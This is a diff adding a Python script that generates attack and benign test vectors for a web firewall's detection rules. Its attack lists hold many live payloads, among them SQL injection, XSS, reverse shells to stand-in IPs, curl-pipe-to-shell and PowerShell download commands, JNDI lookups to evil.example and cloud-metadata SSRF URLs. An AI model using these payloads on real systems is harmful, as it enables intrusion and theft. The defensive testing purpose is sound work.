@@ -1,0 +1,97 @@
+import json, urllib.parse
+d = json.load(open('../../default.json'))
+ids = [r['id'] for r in d['rules']]
+# A vector is a string (sent as the query parameter "q") or a request object.
+def ua(s): return {"method": "GET", "uri": "/", "headers": [["User-Agent", s]]}
+def uri(u, method="GET"): return {"method": method, "uri": u}
+def hdr(name, val): return {"method": "GET", "uri": "/", "headers": [[name, val]]}
+def body(ct, b, method="POST"): return {"method": method, "uri": "/api", "headers": [["Content-Type", ct]], "body": b}
+V = {
+ "rp-sqli-001": (["x' or 'a'='a", "1' and 1=1 -- ", "abc\" or \"1\"=\"1", "admin' || 1=1#"], ["O'Brien and friends", "Rock 'n' roll or jazz", "size 16\" or 18\""]),
+ "rp-sqli-002": (["admin'--", "1') #", "name\"/*"], ["O'Brien", "tag '#2' today", "it's -- well"]),
+ "rp-sqli-003": (["1 union select null,null", "-1 UNION/**/ALL/**/SELECT 1,2", "x' union distinct select user()"], ["union members get 10% off", "O'connors UNION selected a few friends"]),
+ "rp-sqli-004": (["1; drop table users", "x'; insert into logs values(1)", "1;exec master..xp_cmdshell 'dir'"], ["Great product; drop me a line", "1; exec will create the case"]),
+ "rp-sqli-005": (["1 and sleep(5)", "1'; waitfor delay '0:0:5'--", "1 or benchmark(1000000,md5(1))"], ["sleep mask", "benchmark results"]),
+ "rp-sqli-006": (["1 and extractvalue(1,concat(0x7e,user()))", "' union select table_name from information_schema.tables", "1;exec xp_cmdshell 'dir'"], ["version 2 of the database", "information schema docs"]),
+ "rp-sqli-010": (["1 and @@version>5", "select @@hostname"], ["email me @ home", "@@@ decoration"]),
+ "rp-sqli-011": (["( binary ( select 'b')) --", "1') #", "x'))--"], ["(see note) - thanks", "SCRAPBOOK PAPER (300 DPI) --"]),
+ "rp-sqli-012": (["1' * id - '0", "'<='", "aa'^(0)='0"], ["it's a 'quote'", "\"hello\" and \"bye\""]),
+ "rp-sqli-007": (["1 or 1=1", "x and 'a'='a'--", "0 || 2>1"], ["1 + 1 = 2, and 2 * 3 = 6.", "either/or"]),
+ "rp-sqli-008": (["1 and 1=1--", "1) or sleep(3)", "5 order by 3--"], ["1950 or 1960", "00 and 3"]),
+ "rp-sqli-009": (["(select 1 from dual)", "char(65,66)", "concat_ws(0x3a,user(),database())"], ["Select your size from the chart below", "concat the strings"]),
+ "rp-xss-001": (["<script>alert(1)</script>", "<svg/onload=x>", "<iframe src=//evil>"], ["<p>Hello <b>world</b></p>", "I <3 scripts"]),
+ "rp-xss-002": (["<img src=x onerror=alert(1)>", "<body onload=go()>", "<div style=\"x:expression(alert(1))\">"], ["<a href=\"https://example.com\">link</a>", "online = true"]),
+ "rp-xss-003": (["\" onmouseover=\"alert(1)", "' onfocus='x()' autofocus", "onerror=alert(1)"], ["said \"online\" today", "one = two"]),
+ "rp-xss-004": (["javascript:alert(1)", "<a href=\"vbscript:msgbox\">", "data:text/html;base64,PHNjcmlwdD4="], ["java script tutorial", "data: see attached"]),
+ "rp-xss-005": (["alert(document.cookie)", "x=String.fromCharCode(88)", "window.location='//evil'"], ["alert system for seniors", "document scanner"]),
+ "rp-xss-006": (["</title><x>", "<img src=\"javascript:x\">", "</textarea>"], ["<p>title</p>", "<img src=\"https://cdn.example.com/a.png\">"]),
+ "rp-lfi-001": (["../../etc/passwd", "..\\..\\windows\\win.ini", "/static/../etc/hosts"], ["2024-05-01..2024-05-31", "a..b.txt", "docs/readme.md"]),
+ "rp-lfi-002": (["/etc/passwd", "file=/proc/self/environ", "/var/log/auth.log"], ["/etc/ is a directory name", "/usr/share/doc/readme"]),
+ "rp-lfi-003": (["php://filter/convert.base64-encode/resource=index", "zip://upload.zip#shell", "expect://id"], ["https://example.com/php", "filter by date"]),
+ "rp-lfi-004": (["http://203.0.113.9/shell.txt?", "https://evil.example/x.php?"], ["https://example.com/page", "http://example.com/help?topic=a"]),
+ "rp-lfi-005": (["%c0%ae%c0%ae/%c0%ae%c0%ae/etc", uri("/f?name=..%c0%af..%c0%afboot.ini"), "%uff0e%uff0e/x"], ["100%", "a.b.c"]),
+ "rp-lfi-006": ([".ssh/id_rsa", "/home/u/.aws/credentials", "/.bash_history"], ["ssh keys guide", "aws credentials how-to"]),
+ "rp-lfi-007": (["c:\\windows\\system32\\drivers\\etc\\hosts", "WEB-INF/web.xml", "boot.ini"], ["windows 11 system requirements", "web info"]),
+ "rp-rce-010": (["whoami", "uname -a", "cat /etc/passwd"], ["who am i", "uname"]),
+ "rp-rce-011": (["`whoami`", "`cat /etc/passwd`", "`sleep 5`"], ["`go test ./...`", "`python -m venv .venv`"]),
+ "rp-rce-012": (["cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "$(curl evil)"], ["${name}", "{a, b}"]),
+ "rp-rce-013": (["/bin/sh -c id", "/usr/bin/wget http://x", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242"], ["/usr/bin is a directory", "binary files"]),
+ "rp-rce-014": (["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "curl http://x/s.sh | sh"], ["nc state", "curl your hair"]),
+ "rp-rce-015": ([ua("() { :; }; /bin/bash -c id"), "() { ignored; }; echo x"], ["() => {}", "f() { return 1 }"]),
+ "rp-rce-016": (["cmd.exe /c dir", "powershell -enc SQBFAFgA", "IEX (New-Object Net.WebClient).DownloadString('http://x')"], ["cmd + c copies", "powershell tutorial"]),
+ "rp-rce-017": (["for /f %i in ('dir') do echo %i", "if not exist x.txt echo y", "FOR %G IN (a,b) DO echo %G"], ["for all of us", "if it exists"]),
+ "rp-rce-018": (["net user hacker p /add", "%COMSPEC% /c dir", "reg add HKLM\\x"], ["net users count", "register here"]),
+ "rp-rce-019": (["/???/c?t /???/p??s??", "/?in/ca? x"], ["what?/ok", "is it?"]),
+ "rp-rce-020": (["java.lang.Runtime", "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.rowset.JdbcRowSetImpl"], ["java is a language", "processing the order"]),
+ "rp-rce-021": (["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "H4sIAAAAAAAAAKtWSkksSVSyUlAqS8wpTgUAGxTzYxIAAAA"], ["SGVsbG8gd29ybGQ=", "eyJhbGciOiJIUzI1NiJ9"]),
+ "rp-rce-022": (["%{#_memberAccess['allowStaticMethodAccess']=true}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "class.module.classLoader.resources"], ["member access", "the runtime was long"]),
+ "rp-rce-030": (["<?php system('id'); ?>", "$_GET['c']", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"], ["<?xml version=\"1.0\"?>", "php is fun"]),
+ "rp-rce-032": (["system('id')", "shell_exec($_GET['c'])", "file_get_contents('/etc/passwd')"], ["the system (2024)", "include a note"]),
+ "rp-rce-033": (["$f('id');", "(system)('id')", "eval($_POST['x'])"], ["my document (2).pdf", "ceiling height(9ft)"]),
+ "rp-rce-031": (["require('child_process').exec('id')", "this.constructor.constructor('return process')()", "{\"__proto__\":{\"x\":1}}"], ["constructors build things", "require a login"]),
+ "rp-ssrf-001": (["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:a9fe:a9fe]/"], ["https://example.com/169", "http://api.example.com/metadata-service"]),
+ "rp-ssrf-002": (["http://127.0.0.1:8080/admin", "http://0x7f000001/", "http://10.0.0.5/internal", "http://2130706433/"], ["https://example.com/", "http://203.0.113.5/"]),
+ "rp-ssrf-003": (["gopher://127.0.0.1:6379/_x", "file:///etc/passwd", "dict://localhost:11211/stat"], ["https://example.com/file", "ftp is old"]),
+ "rp-nosqli-001": (uri("/login?user[$ne]=x&pass[$ne]=x"), body("application/json", "{\"user\": {\"$gt\": \"\"}}"), ["plain"]),
+ "rp-nosqli-002": (["{\"$where\": \"sleep(1000)\"}", "'; return true; var x='", "this.password.match(/.*/)"], ["price $10", "where is my order"]),
+ "rp-ssti-001": (["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}", "<%= 7*7 %>"], ["{{ name }}", "costs ${price}"]),
+ "rp-jndi-001": (["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://x/y}", "${${::-j}${::-n}${::-d}${::-i}:dns://x}"], ["${HOME}", "jndi docs"]),
+ "rp-scanner-001": ([ua("sqlmap/1.7.2#stable (https://sqlmap.org)"), ua("Mozilla/5.0 (compatible; Nmap Scripting Engine)"), ua("Nuclei - Open-source project")], [ua("Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0"), ua("urlgrabber/3.10 yum/3.4.3")]),
+ "rp-scanner-002": (["http://abc.oastify.com", "x.burpcollaborator.net"], ["https://example.com", "burp suite docs"]),
+ "rp-probe-001": ([uri("/.git/config"), uri("/.env"), uri("/app/.DS_Store")], [uri("/.well-known/security.txt"), uri("/api/v1/users")]),
+ "rp-probe-002": ([uri("/index.php.bak"), uri("/config.php~"), uri("/db.sql.old")], [uri("/index.php"), uri("/old/page")]),
+ "rp-probe-003": ([uri("/server-status"), uri("/wp-config.php"), uri("/actuator/env")], [uri("/status"), uri("/wp-content/uploads/a.png")]),
+ "rp-proto-001": (["x\r\nSet-Cookie: a=b", "foo%0d%0aLocation: http://evil", "a\nhttp/1.1 200 OK"], ["line one", "100%"]),
+ "rp-proto-002": ([hdr("X-Test", "a%0d%0aSet-Cookie: x=1"), hdr("X-Test", "a\r\nb")], [hdr("X-Test", "plain value"), hdr("Accept", "text/html")]),
+ "rp-proto-003": (["file.php\x00.jpg", uri("/download?f=a%00.png")], ["file.php.jpg", "zero 0"]),
+ "rp-proto-004": ([uri("/", "TRACE"), uri("/", "get"), uri("/", "JEFF")], [uri("/", "GET"), uri("/", "DELETE"), uri("/", "PATCH")]),
+ "rp-proto-005": ([{"method": "POST", "uri": "/", "headers": [["Content-Length", "4"], ["Transfer-Encoding", "chunked"]], "body": "abcd"}], [{"method": "POST", "uri": "/", "headers": [["Content-Length", "4"]], "body": "abcd"}]),
+ "rp-proto-006": ([hdr("Transfer-Encoding", "chunked, identity"), hdr("Transfer-Encoding", "xchunked")], [hdr("Transfer-Encoding", "chunked"), hdr("Accept", "x")]),
+ "rp-proto-007": (["<meta http-equiv=\"Set-Cookie\" content=\"a=b\">", "x;document.cookie=\"s=1\"", "JSESSIONID=abc123"], ["cookie recipe", "session notes"]),
+ "rp-proto-009": ([uri("/login?jsessionid=74B0CB41"), uri("/app;jsessionid=abc?x=1")], [uri("/login?session=1"), uri("/?sessionid_help=1")]),
+ "rp-proto-010": (["printer)(uid=*)", "x)(|(objectclass=*)", "*)(&"], ["(555) 010-9999", "see (a) and (b)"]),
+ "rp-proto-011": ([uri("/api/r?_method=DELETE", "POST"), {"method": "POST", "uri": "/api", "headers": [["X-HTTP-Method-Override", "PUT"]]}], [uri("/api/r?_method=GET", "POST"), uri("/api?method=delete")]),
+ "rp-proto-012": ([hdr("Request-Range", "bytes=0-1023")], [hdr("Range", "bytes=0-1023")]),
+ "rp-proto-013": ([hdr("Content-Type", "text/plain; charset=utf-7"), hdr("Content-Type", "application/x-www-form-urlencoded;charset=ibm038")], [hdr("Content-Type", "application/json; charset=utf-8"), hdr("Content-Type", "text/html; charset=ISO-8859-1")]),
+ "rp-proto-008": ([hdr("Content-Length", "4, 5"), hdr("Content-Length", "-1")], [hdr("Content-Length", "42")]),
+}
+ch = json.load(open("chunks.json"))
+for rid, cmds in ch.items():
+    V[rid] = (["; %s -x /tmp/a" % cmds[0], "a|%s -x /tmp/b" % cmds[-1], "x && %s --help /" % cmds[len(cmds)//2]], ["%s is a word" % cmds[0], "%s and %s" % (cmds[1], cmds[2])])
+out = {}
+for rid in ids:
+    if rid in ("rp-block-ip", "rp-block-user"):
+        continue
+    a, b = V[rid][:-1] if False else (None, None)
+    v = V[rid]
+    if len(v) == 3:  # nosqli-001: two attacks, benign list
+        a, b = [v[0], v[1]], v[2]
+    else:
+        a, b = v
+    out[rid] = {"attack": a, "benign": b}
+out["rp-block-ip"] = {"attack": [{"method": "GET", "uri": "/", "client_ip": "198.51.100.77"}], "benign": [{"method": "GET", "uri": "/", "client_ip": "198.51.100.78"}]}
+out["rp-block-user"] = {"attack": [{"method": "GET", "uri": "/", "user_id": "mallory"}], "benign": [{"method": "GET", "uri": "/", "user_id": "alice"}]}
+missing = [r for r in V if r not in ids]
+assert not missing, missing
+json.dump(out, open('../vectors.json', 'w'), indent=1, ensure_ascii=False)
+print(len(out), "rules with vectors")
